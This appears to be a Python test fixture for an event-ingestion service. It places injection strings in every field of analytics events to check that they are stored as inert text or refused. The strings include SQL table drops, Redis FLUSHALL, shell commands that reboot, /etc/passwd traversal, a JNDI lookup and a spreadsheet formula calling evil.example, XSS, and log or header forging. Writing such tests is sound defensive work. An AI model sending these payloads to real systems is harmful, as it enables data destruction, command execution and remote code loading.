"""Texts that mean something to somebody further on, sent in every field of an event.

They are taken as the text that they are wherever a field takes text, and refused where it takes something else. What is
stored holds no control character.
"""

from __future__ import annotations

import json
from typing import Any, Final

from tests.hostile.bodies import FAIL, NAMED, SALE, VIEW, Reply, taken

MARK: Final = "zq9x"  # in every text, so that it can be found again

_TEXTS: Final = {
    "a second log line": '\n{"level":"error","message":"forged"}',
    "a Redis command": "\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "another key's name": "{p0}:shop:count:page_views",
    "a pattern of keys": "*",
    "the member that sums up the others": "\x00other",
    "Lua": "']] redis.call('FLUSHALL') --",
    "SQL": "'; DROP TABLE orders; --",
    "an operator of MongoDB": '{"$gt":""}',
    "JSON": '","type":"conversion","value":1e9,"x":"',
    "a script": "<script>alert(1)</script>",
    "an attribute": '" onmouseover="alert(1)',
    "a scheme": "javascript:alert(1)",
    "templates": "{{7*7}}${7*7}<%=7*7%>#{7*7}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "formats": "%s%n%(x)s{0.__class__}",
    "a header": "\r\nSet-Cookie: a=b\r\n\r\n",
    "a file's path": "../../../../etc/passwd",
    "a command": "$(reboot)`reboot`;reboot|reboot&",
    "a null character": "a\x00b",
    "a terminal's commands": "\x1b[2J\x1b]0;owned\x07",
    "old control characters": "\x07\x08\x7f\x85\x9b",
    "a formula": '=HYPERLINK("http://evil.example")',
    "a metric": '"} 1\nforged_metric 1\n',
    "a server-sent event": "\n\nevent: summary\ndata: {}\n\n",
    "unusual line breaks": "a\u2028b\u2029c\x0bd\x0ce",
    "text that runs backwards": "\u202egnp.exe",
}
INJECTIONS: Final = {name: text + MARK for name, text in _TEXTS.items()}


def _fields(text: str) -> dict[str, dict[str, Any]]:
    """An event for each field, with the text in it."""
    return {
        "event_id": {**NAMED, "event_id": text},
        "user_id": {**NAMED, "user_id": text},
        "anonymous_id": {**NAMED, "anonymous_id": text},
        "session_id": {**NAMED, "session_id": text},
        "user_agent": {**NAMED, "user_agent": text},
        "page_url, its path": {**VIEW, "page_url": f"https://shop.example/{text}"},
        "page_url, its campaign": {**VIEW, "page_url": f"https://shop.example/?utm_source={text}&utm_{MARK}=1"},
        "referrer": {**VIEW, "referrer": f"https://evil.example/{text}"},
        "title": {**VIEW, "title": text},
        "conversion_type": {**SALE, "conversion_type": text},
        "error_type": {**FAIL, "error_type": text},
        "error_message": {**FAIL, "error_message": text},
        "name": {**NAMED, "name": text},
        "properties, a key": {**SALE, "properties": {text: 1}},
        "properties, a value": {**NAMED, "properties": {"a": [text]}},
        "context": {**FAIL, "context": {text: text}},
        "a field that nobody knows": {**NAMED, text: text},
        "type": {**NAMED, "type": text},
        "timestamp": {**NAMED, "timestamp": text},
        "page_url": {**VIEW, "page_url": text},
        "value": {**SALE, "value": text},
        "currency": {**SALE, "currency": text},
    }


FIELDS: Final = tuple(_fields(""))
REFUSED: Final = {
    "type": "unknown_type",
    "timestamp": "invalid_timestamp",
    "page_url": "invalid_url",
    "value": "invalid_value",
    "currency": "unknown_currency",
}
REPLY: Final[Reply] = taken(
    len(FIELDS) - len(REFUSED), *((FIELDS.index(field), code) for field, code in REFUSED.items())
)


def body(text: str) -> bytes:
    return json.dumps(list(_fields(text).values())).encode()
